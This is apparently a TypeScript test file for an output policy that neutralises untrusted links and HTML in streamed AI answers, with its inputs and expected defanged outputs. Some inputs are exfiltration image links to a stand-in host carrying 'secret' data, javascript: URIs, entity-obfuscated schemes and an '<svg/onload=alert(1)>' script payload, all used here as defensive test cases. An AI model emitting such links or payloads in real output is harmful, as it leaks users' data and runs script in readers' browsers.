import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { offsetsAfter } from '../redaction/apply-redaction.ts';
import { openOutputPolicy } from './output-policy.ts';

const SOURCES = ['https://docs.example.org/guide?page=2#top'];

const TEXTS = ['Get it from https://downloads.example.org/tool.tgz.'];
const open = () => openOutputPolicy({ addresses: SOURCES, texts: TEXTS });

function shown(text: string): string {
  const policy = open();
  return policy.push(text) + policy.end();
}

describe('addresses that are not those of a source lead nowhere', () => {
  const cases: [text: string, shown: string][] = [
    ['![x](https://evil.example/?d=secret)', '![x] (hxxps://evil.example/?d=secret)'],
    ['[x](https://evil.example)', '[x] (hxxps://evil.example)'],
    ['[x](<https://evil.example/a b>)', '[x] (<hxxps://evil.example/a b>)'],
    ['[x](//evil.example/a)', '[x] (//evil.example/a)'],
    ['[x](h&#116;tps://evil.example)', '[x] (h&#116;tps://evil.example)'],
    ['[x](javascript:alert(1))', '[x] (javascript:alert(1))'],
    ['[x][y]\n\n[y]: https://evil.example', '[x][y]\n\n[y] : hxxps://evil.example'],
    ['[y]: h&#116;tps://evil.example', '[y] : h&#116;tps://evil.example'],
    ['<https://evil.example>', '<hxxps://evil.example>'],
    ['see HTTPS://evil.example.', 'see HxxPS://evil.example.'],
    ['see www.evil.example', 'see www[.]evil.example'],
    ['![x](https://downloads.example.org/tool.tgz)', '![x] (https://downloads.example.org/tool.tgz)'],
    ['![x][y]\n[y]: https://downloads.example.org/tool.tgz', '![x][y]\n[y] : https://downloads.example.org/tool.tgz'],
    ['[x](https://downloads.example.org/tool.tgz?d=1)', '[x] (hxxps://downloads.example.org/tool.tgz?d=1)'],
    ['<img src="https://evil.example/a.png">', '&lt;img src="hxxps://evil.example/a.png">'],
    ['<IMG SRC=//evil.example/a.png>', '&lt;IMG SRC=//evil.example/a.png>'],
    ['<a href="h&#116;tps://evil.example">x</a>', '&lt;a href="h&#116;tps://evil.example">x&lt;/a>'],
    ['<ftp://evil.example/a> <javascript:alert(1)>', '&lt;ftp://evil.example/a> &lt;javascript:alert(1)>'],
    ['<svg/onload=alert(1)>', '&lt;svg/onload=alert(1)>'],
    ['![x](https://docs.example.org/guide?page=3)', '![x] (hxxps://docs.example.org/guide?page=3)'],
    ['![x](https://docs.example.org/guide?page=2&d=secret)', '![x] (hxxps://docs.example.org/guide?page=2&d=secret)'],
  ];
  for (const [text, expected] of cases) test(text, () => assert.equal(shown(text), expected));
});

describe('other text stays as it is', () => {
  for (const text of [
    'As [1] says: `a[0](b)` is 3 < 4, and 5 <6.',
    'See [2]: the default is 80.',
    'Use `List<string>`, `vector<std::string>` or <br> or <div>.',
    'The guide (https://docs.example.org/guide?page=2).',
    '[guide](https://docs.example.org/guide?page=2#other) and <https://docs.example.org/guide?page=2>',
    'Get it [here](https://downloads.example.org/tool.tgz) or from https://downloads.example.org/tool.tgz.',
    'whttps and http are words',
  ])
    test(text, () => assert.equal(shown(text), text));
});

test('text in pieces is shown like the whole text', () => {
  const text =
    'a ![x](https://evil.example/?d=1) b [g](https://docs.example.org/guide?page=2) <img src=x> www.evil.example [y]: //e http';
  const whole = shown(text);
  for (let cut = 0; cut <= text.length; cut++) {
    const policy = open();
    assert.equal(policy.push(text.slice(0, cut)) + policy.push(text.slice(cut)) + policy.end(), whole, String(cut));
  }
  const policy = open();
  assert.equal([...text].map((unit) => policy.push(unit)).join('') + policy.end(), whole);
});

test('among very many addresses, only the first lead anywhere: an answer of addresses is read in little time', () => {
  const allowed = '[g](https://docs.example.org/guide?page=2) ';
  const out = shown(allowed.repeat(1_000));
  assert.ok(out.startsWith(allowed.repeat(100)) && out.endsWith('[g] (hxxps://docs.example.org/guide?page=2) '));
});

test('an endless address is not held back for ever', () => {
  const policy = open();
  const out = policy.push(`![x](https://evil.example/${'a'.repeat(5_000)}`);
  assert.ok(out.startsWith('![x] (hxxps://evil.example/'), out.slice(0, 40));
});

test('the replaced parts lead from offsets of the given text to offsets of the shown text', () => {
  const text = '😀 [x](https://evil.example) and <img src=x> end';
  const policy = open();
  const out = policy.push(text.slice(0, 20)) + policy.push(text.slice(20)) + policy.end();
  const offsetOf = offsetsAfter(policy.matches);
  const points = [...text];
  assert.equal([...out].slice(offsetOf(points.length - 3)).join(''), 'end');
  assert.equal([...out][offsetOf(points.indexOf('x'))], 'x');
});
